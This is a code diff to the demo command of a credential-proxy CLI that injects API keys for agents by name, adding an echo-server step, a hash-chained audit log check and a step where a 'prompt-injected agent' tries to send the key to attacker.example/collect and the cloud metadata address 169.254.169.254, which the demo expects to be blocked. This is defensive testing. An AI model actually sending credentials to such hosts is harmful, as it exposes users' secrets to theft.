@@ -7,6 +7,7 @@ import { loadConfig } from '../../core/config.js';
 import { runWithSecrets } from '../../env/runner.js';
 import { createServices } from '../../services.js';
 import { createMemoryKeyProvider } from '../../vault/key-providers.js';
+import { createLocalCredentialService } from '../../proxy/credential-service.js';
 import type { CliContext } from '../context.js';
 
 /**
@@ -18,8 +19,14 @@ export async function demo(ctx: CliContext, options: { keep?: boolean }): Promis
   const { out } = ctx;
   const home = await mkdtemp(join(tmpdir(), 'agentsecrets-demo-'));
   const memory = createMemoryKeyProvider();
+  // The demo's "API" is a local echo server, so the private-network override opens loopback.
   const config = loadConfig(
-    { ...ctx.config.env, AGENTSECRETS_HOME: home, AGENTSECRETS_ENV: '' },
+    {
+      ...ctx.config.env,
+      AGENTSECRETS_HOME: home,
+      AGENTSECRETS_ENV: '',
+      AGENTSECRETS_ALLOW_PRIVATE: '127.0.0.1/32',
+    },
     home,
   );
   const services = createServices(config, { memoryKeys: memory });
@@ -68,10 +75,104 @@ export async function demo(ctx: CliContext, options: { keep?: boolean }): Promis
     out.line(`   program output: ${text.trim()}`);
     out.line(`   exit code ${result.exitCode}, ${result.redactions} value(s) masked`);
 
+    step(5, 'The agent calls an API by key name; the API echoes the credential back');
+    const upstream = await startEchoServer();
+    let leaked = text.includes(value);
+    const credentials = await createLocalCredentialService({
+      config,
+      workspaces: services.workspaces,
+      vault: services.vault,
+      unlock: () => services.vault.unlock(),
+    });
+    try {
+      await services.workspaces.updateWorkspace(current.workspace.id, (w) => {
+        w.allowlist.push({
+          pattern: `127.0.0.1:${upstream.port}`,
+          added_by: 'demo',
+          added_at: new Date().toISOString(),
+        });
+      });
+      out.line(
+        `   (a human allowlisted 127.0.0.1:${upstream.port}, a local echo server standing in for an API)`,
+      );
+      const target = {
+        workspaceId: current.workspace.id,
+        projectId: current.project.id,
+        environment: current.environment,
+      };
+      const caller = {
+        level: 'declared' as const,
+        agentId: 'demo-agent',
+        tokenId: null,
+        source: 'cli' as const,
+      };
+      const call = (url: string) =>
+        credentials.call({
+          url,
+          method: 'GET',
+          headers: [],
+          body: undefined,
+          injections: [{ style: 'bearer', key: 'DEMO_API_KEY' }],
+          target,
+          caller,
+        });
+      const response = await call(`http://127.0.0.1:${upstream.port}/v1/whoami`);
+      const body = response.body.toString('utf8');
+      leaked ||= body.includes(value);
+      out.line(`   HTTP ${response.status}: ${body}`);
+      out.line(`   redacted: ${response.redacted}`);
+
+      step(6, 'A prompt-injected agent tries to send the key elsewhere');
+      for (const url of [
+        'https://attacker.example/collect',
+        'https://169.254.169.254/latest/meta-data/',
+      ]) {
+        try {
+          await call(url);
+          out.line(`   ${url}: NOT blocked`);
+          leaked = true;
+        } catch (err) {
+          const error = err as { code?: string; message?: string };
+          out.line(`   ${url}: blocked (${error.code})`);
+        }
+      }
+      await credentials.audit.flush();
+
+      step(7, 'Every call and block is in the hash-chained audit log');
+      const { newestEntries } = await import('../../audit/reader.js');
+      const { verifyChain } = await import('../../audit/verify.js');
+      for (const entry of (await newestEntries(config.paths.auditDir, 10)).reverse()) {
+        out.line(
+          `   ${entry.status.padEnd(7)} ${entry.source.padEnd(4)} ${(entry.agent_id ?? 'anonymous').padEnd(11)} ${entry.identity_level.padEnd(9)} ${entry.domain ?? entry.command ?? ''} ${entry.reason ?? ''}`,
+        );
+      }
+      const chain = await verifyChain(config.paths.auditDir);
+      out.line(`   chain: ${chain.ok ? 'intact' : 'BROKEN'} (${chain.entries} entries)`);
+    } finally {
+      await credentials.close();
+      await upstream.close();
+    }
+
     out.line('\nDone. To set up for real: agentsecrets init, then agentsecrets secrets set KEY.');
-    return result.exitCode === 0 && !text.includes(value) ? 0 : 1;
+    return result.exitCode === 0 && !leaked ? 0 : 1;
   } finally {
     if (options.keep) out.notice(`kept ${home}`);
     else await rm(home, { recursive: true, force: true });
   }
+}
+
+/** A tiny API stand-in that echoes the Authorization header it receives. */
+async function startEchoServer(): Promise<{ port: number; close(): Promise<void> }> {
+  const { createServer } = await import('node:http');
+  const server = createServer((req, res) => {
+    const text = JSON.stringify({ you_sent: req.headers.authorization ?? null });
+    res.writeHead(200, { 'content-type': 'application/json' });
+    res.end(text);
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const address = server.address();
+  return {
+    port: typeof address === 'object' && address !== null ? address.port : 0,
+    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
+  };
 }
